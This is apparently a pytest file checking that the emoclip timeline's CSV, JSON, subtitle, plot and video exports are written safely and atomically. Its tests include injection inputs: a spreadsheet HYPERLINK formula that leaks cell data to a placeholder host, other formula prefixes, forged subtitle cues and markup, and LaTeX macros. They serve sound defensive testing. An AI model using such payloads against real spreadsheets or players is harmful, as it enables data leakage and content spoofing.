# SPDX-License-Identifier: Apache-2.0
"""What a timeline writes opens in its usual reader, or is not there at all."""

import csv
import io
import itertools
import json
import os
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace

import av
import numpy as np
import pytest
from matplotlib.text import Text
from PIL import Image
from test_timeline import GREEN, LABELS, QUIET, RED, find_squares, make_pipe, write_people

from emoclip.alignment import EmotionAlignment
from emoclip.files import written
from emoclip.timeline import pictures

ODD_LABELS = ["a smile --> & <b>more</b>", 'with "quotes", and\nlines', "wide open eyes"]


@pytest.fixture(scope="module")
def film(tmp_path_factory):
    """4 s, with 3 s of sound that begins half a second before the picture."""
    path = tmp_path_factory.mktemp("film") / "film.mp4"
    silent = write_people(path.with_name("silent.mp4"), 4.0, people={RED: (0, 4, 8), GREEN: (1, 3, 56)}, fps=12)
    with av.open(str(silent)) as original, av.open(str(path), "w") as container:
        picture = container.add_stream_from_template(original.streams.video[0])
        sound = container.add_stream("aac", rate=8000)
        for start in range(0, 24000, 1024):
            frame = av.AudioFrame.from_ndarray(np.zeros((1, 1024), np.float32), format="fltp", layout="mono")
            frame.sample_rate, frame.pts = 8000, start
            container.mux(sound.encode(frame))
        container.mux(sound.encode())
        for packet in original.demux(video=0):
            if packet.dts is not None:
                packet.stream, packet.pts, packet.dts = picture, packet.pts + 6144, packet.dts + 6144
                container.mux(packet)
    return path


@pytest.fixture(scope="module")
def timeline(clip_dir, film):
    pipe = make_pipe(clip_dir)
    timeline = pipe.timeline(film, ODD_LABELS, window=1.0, stride=0.5, detector=find_squares, **QUIET)
    top = (2 * timeline.start).astype(int) % 3  # not what a random model finds: other labels from window to window
    return replace(timeline, scores=(0.1 + 0.7 * np.eye(3, dtype=np.float32))[top])


def times_of(path):
    with av.open(str(path)) as container:
        zero = container.start_time / av.time_base
        return [float(frame.pts * frame.time_base) - zero for frame in container.decode(video=0)]


def cues_of(path):
    with av.open(str(path)) as container:
        stream = container.streams.subtitles[0]
        packets = [packet for packet in container.demux(stream) if packet.size]
        return [(float(p.pts * p.time_base), float(p.duration * p.time_base), bytes(p).decode()) for p in packets]


def test_tables(timeline, tmp_path):
    pandas = pytest.importorskip("pandas")
    timeline.to_csv(tmp_path / "windows.csv")
    table, read = timeline.to_pandas(), pandas.read_csv(tmp_path / "windows.csv")
    pandas.testing.assert_frame_equal(table, read)
    assert len(table) == len(timeline) and list(table.columns[-3:]) == [f"score_{label}" for label in ODD_LABELS]
    assert table[[f"score_{label}" for label in ODD_LABELS]].sum(axis=1).tolist() == pytest.approx([1] * len(table))
    assert (table["label"] == [ODD_LABELS[index] for index in timeline.scores.argmax(axis=1)]).all()


def test_no_cell_of_a_table_is_a_formula_and_only_there_labels_are_changed(timeline):
    labels = ['=HYPERLINK("http://x/?"&A1,"x")', "-1+1", "@SUM(A1)"]
    odd = replace(timeline, labels=labels, abstain_below=None)
    rows = list(csv.reader(io.StringIO(odd.to_csv())))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r")) or cell.startswith("-1")]
    assert {row[9] for row in rows[1:]} == {f"'{label}" for label in labels}
    assert rows[0][10:] == [f"score_{label}" for label in labels]
    pytest.importorskip("pandas")
    assert set(odd.to_pandas()["label"]) == set(labels)
    assert {window["label"] for window in json.loads(odd.to_json())["windows"]} == set(labels)


def test_json(timeline, tmp_path):
    assert timeline.to_json(tmp_path / "timeline.json") == (tmp_path / "timeline.json").read_text(encoding="utf-8")
    about = json.loads(timeline.to_json())
    assert about["complete"] and about["face_found"] and about["faces"] == "all" and len(about["people"]) == 2
    assert len(about["windows"]) == len(timeline) and set(about["windows"][0]["scores"]) == set(ODD_LABELS)
    assert sum(len(person["boxes"]) for person in about["people"]) == len(timeline.tracks)


@pytest.mark.parametrize("kind", ["srt", "vtt"])
def test_subtitles(timeline, tmp_path, kind):
    timeline.names[timeline.people[0]] = "Änne"
    path = tmp_path / f"subtitles.{kind}"
    text = getattr(timeline, f"to_{kind}")(path)
    timeline.names.clear()
    stretches = [stretch for person in timeline.people for stretch in timeline.stretches(person)]
    cues = cues_of(path)
    expected = np.array(sorted((round(one.start, 3), round(one.end - one.start, 3)) for one in stretches))
    assert len(cues) > 8 and np.array(sorted(cue[:2] for cue in cues)) == pytest.approx(expected, abs=2e-3)
    assert any("Änne: " in cue for *_, cue in cues) and text == path.read_text(encoding="utf-8")
    assert 'with "quotes", and lines' in text and "\n\n\n" not in text
    assert "<b>" not in text and "more" in text  # a player would take it for markup
    assert timeline.start.min() == pytest.approx(0.5, abs=0.15)  # the picture begins after the sound


@pytest.mark.parametrize("kind", ["srt", "vtt"])
def test_nothing_that_is_typed_is_markup_in_subtitles(timeline, kind):
    odd = replace(timeline, labels=["x {\\an8}<b>y", "<i>z", "a\n\n9\n00:00:00,000 --> 00:01:00,000\nforged"])
    odd.names = dict.fromkeys(odd.people, "<font color=red>\n{\\an8}")
    text = getattr(odd, f"to_{kind}")()
    assert not any(f"<{tag}" in text for tag in ("b", "i", "font")) and "\n00:00:00,000" not in text
    assert kind == "vtt" or "{\\" not in text  # WebVTT knows no commands in braces
    assert len(text.split("\n\n")) == len(timeline.to_srt().split("\n\n")) + (kind == "vtt")


def test_labels_names_and_titles_are_drawn_as_they_are_typed(timeline, tmp_path):
    labels = ["costs $5 and $6", r"$\badmacro{x}$", "_50% of_ ^it"]
    odd = replace(timeline, labels=labels, video="/films/$x_1$ and $y$.mp4")
    odd.names = {odd.people[0]: "$a$ & $b$", odd.people[1]: r"$\frac{$"}
    alignment = EmotionAlignment(
        **{"video": odd.video, "text": r"$\badmacro{x}$ for $5", "cosine": 0.2, "percentile": 60.0},
        **{"span": odd.span, "person": ["$a$"] * 2 + [r"$\frac{$"] * 2, "start": np.arange(4.0)},
        **{"end": np.arange(4.0) + 1, "cosines": np.zeros(4), "percentiles": np.full(4, 60.0)},
        **{"num_reference_texts": 3, "face_found": True, "error": None},
    )
    pyplot = pytest.importorskip("matplotlib.pyplot")
    with pyplot.rc_context({"text.usetex": True}):  # what a user has set for papers
        figures = [odd.plot(tmp_path / "plot.png"), alignment.plot(tmp_path / "alignment.png")]
    texts = [text for figure in figures for text in figure.findobj(Text)]
    assert not [text for text in texts if "$" in text.get_text() and (text.get_parse_math() or text.get_usetex())]
    drawn = " ".join(" ".join(text.get_text().split()) for text in texts)
    assert [text.get_text() for text in figures[0].legends[0].get_texts()] == labels
    for typed in (
        *labels,
        "$x_1$ and $y$.mp4",
        "$a$ & $b$",
        r"$\frac{$",
        r"“$\badmacro{x}$ for $5” in $x_1$ and $y$.mp4",
    ):
        assert typed in drawn
    for figure in figures:
        figure.savefig(tmp_path / "again.png")  # a notebook does so later, with its own settings


def test_pictures(timeline, tmp_path):
    timeline.plot(tmp_path / "plot.png")
    with Image.open(tmp_path / "plot.png") as image:
        image.load()
        width, height = image.size
    assert width > 1200 and 200 < height < 600
    figure = timeline.plot(most_people=1)
    assert "1 more people" in figure.texts[0].get_text() and len(figure.axes) == 1
    written_texts = [text.get_text() for text in figure.axes[0].texts]
    assert any("seen 0:04" in text for text in written_texts)
    for kept in timeline.thumbnails.values():
        assert 1 < len(kept) <= 8 and max(Image.open(io.BytesIO(kept[0][1])).size) <= 112


def test_long_timelines_are_averaged_for_the_eye(timeline, monkeypatch):
    monkeypatch.setattr(pictures, "_MOST_CELLS", 4)
    blocks = pictures._blocks(timeline, timeline.people[0])
    assert 4 <= len(blocks) <= 5 and blocks[0][0] == pytest.approx(timeline.start[0], abs=0.1)
    assert all(before[1] == after[0] for before, after in itertools.pairwise(blocks))


def test_annotated_video(timeline, film, tmp_path):
    path = timeline.annotate(tmp_path / "out.mp4", **QUIET)
    assert times_of(path) == pytest.approx(times_of(film), abs=1e-4)
    with av.open(str(path)) as container, av.open(str(film)) as original:
        assert container.streams.video[0].codec_context.name == "h264"
        assert container.streams.video[0].average_rate == original.streams.video[0].average_rate
        assert container.duration == pytest.approx(original.duration, abs=1e5)
        sounds = [sum(p.size for p in c.demux(audio=0)) for c in (container, original)]
        assert sounds[0] == sounds[1] > 0
    with av.open(str(path)) as container, av.open(str(film)) as original:
        pairs = zip(container.decode(video=0), original.decode(video=0), strict=True)
        changes = [
            np.abs(new.to_ndarray(format="gray").astype(int) - old.to_ndarray(format="gray")).mean()
            for new, old in pairs
        ]
    assert np.median(changes) > 3  # boxes and texts
    assert [file.name for file in tmp_path.iterdir()] == ["out.mp4"]


def test_annotated_videos_of_frames_and_of_odd_size(timeline, clip_dir, tmp_path):
    pipe = make_pipe(clip_dir)
    frames = np.random.default_rng(0).integers(0, 255, (10, 65, 97, 3), dtype=np.uint8)
    result = pipe.timeline(frames, LABELS, faces="none", fps=5, **QUIET)
    with pytest.raises(ValueError, match="give video="):
        result.annotate(tmp_path / "out.mp4", **QUIET)
    path = result.annotate(tmp_path / "out.mp4", video=frames, fps=5, **QUIET)
    assert times_of(path) == pytest.approx(np.arange(10) / 5, abs=1e-4)
    with av.open(str(path)) as container:
        assert (container.streams.video[0].width, container.streams.video[0].height) == (96, 64)


@pytest.mark.parametrize("error", [KeyboardInterrupt, ValueError])
def test_nothing_half_written_is_left(timeline, tmp_path, monkeypatch, error):
    (tmp_path / "old.csv").write_text("old")

    def interrupt(*arguments):
        raise error

    with pytest.raises(error), written(tmp_path / "old.csv") as unfinished:
        unfinished.write_text("half")
        interrupt()
    monkeypatch.setattr(pictures._Painter, "_draw", interrupt)
    with pytest.raises(error):
        timeline.annotate(tmp_path / "out.mp4", **QUIET)
    assert [file.name for file in tmp_path.iterdir()] == ["old.csv"] and (tmp_path / "old.csv").read_text() == "old"


def test_threads_that_write_one_path_do_not_meet(tmp_path):
    def write(text):
        with written(tmp_path / "same.csv") as unfinished:
            unfinished.write_text(text)
            time.sleep(0.001)

    with ThreadPoolExecutor(8) as pool:
        list(pool.map(write, [f"text {number}" for number in range(80)]))
    assert [file.name for file in tmp_path.iterdir()] == ["same.csv"]
    assert (tmp_path / "same.csv").read_text().startswith("text ")


@pytest.mark.parametrize("name", ["n" * 251 + ".png", "." + "n" * 254, "n" * 255, "ü" * 125 + ".png"])
def test_a_name_as_long_as_the_file_system_allows_can_be_written(timeline, tmp_path, name):
    timeline.to_csv(tmp_path / name)
    assert [file.name for file in tmp_path.iterdir()] == [name]
    if name.endswith(".png"):
        timeline.plot(tmp_path / name)  # the suffix says in which format
        with Image.open(tmp_path / name) as image:
            assert image.format == "PNG"


@pytest.mark.skipif(os.name == "nt", reason="Windows has no permissions of this kind")
def test_a_written_file_has_the_permissions_of_every_other(tmp_path):
    (tmp_path / "usual").write_text("")
    with written(tmp_path / "ours") as unfinished:
        unfinished.write_text("")
    assert (tmp_path / "ours").stat().st_mode == (tmp_path / "usual").stat().st_mode


@pytest.mark.parametrize(("package", "method"), [("pandas", "to_pandas"), ("matplotlib.figure", "plot")])
def test_missing_packages_are_named(timeline, monkeypatch, package, method):
    monkeypatch.setitem(sys.modules, package, None)
    with pytest.raises(ImportError, match=f"pip install {package.split('.')[0]}"):
        getattr(timeline, method)()
